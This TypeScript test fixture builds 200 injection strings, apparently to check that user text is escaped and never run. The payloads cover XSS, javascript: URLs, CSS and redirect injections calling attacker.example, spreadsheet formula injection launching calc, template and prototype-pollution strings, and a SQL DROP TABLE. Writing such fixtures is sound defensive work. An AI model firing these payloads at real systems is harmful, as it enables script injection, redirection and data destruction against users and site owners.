/** Each would set `globalThis.hacked`, send something, or deceive, were it taken for more than text. */
const ATTACKS = [
  "<script>globalThis.hacked=1</script>",
  "<img src=x onerror=globalThis.hacked=1>",
  "<svg onload=globalThis.hacked=1>",
  "<svg><script>globalThis.hacked=1</script></svg>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<iframe src=javascript:parent.hacked=1></iframe>",
  "<details open ontoggle=globalThis.hacked=1>",
  "<input autofocus onfocus=globalThis.hacked=1>",
  "<video><source onerror=globalThis.hacked=1></video>",
  "<object data=javascript:globalThis.hacked=1></object>",
  "<embed src=javascript:globalThis.hacked=1>",
  "<a href=javascript:globalThis.hacked=1 autofocus>press</a>",
  "<form action=javascript:globalThis.hacked=1><button>press</button></form>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=globalThis.hacked=1></style></math>",
  "<style>@import 'https://attacker.example/x.css'; body{display:none}</style>",
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  "<base href=https://attacker.example/>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "javascript:globalThis.hacked=1",
  "data:text/html,<script>opener.hacked=1</script>",
  '=HYPERLINK("https://attacker.example","press")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "{{constructor.constructor('globalThis.hacked=1')()}}${globalThis.hacked=1}",
  "__proto__[hacked]=1';DROP TABLE drafts;--",
] as const;

/** Ways out of wherever a text may stand. */
const WAYS_OUT = ["", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "]]>"] as const;

/** Two hundred texts that must stay texts. */
export const ATTACK_PAYLOADS: readonly string[] = WAYS_OUT.flatMap((way) =>
  ATTACKS.map((attack) => way + attack),
);
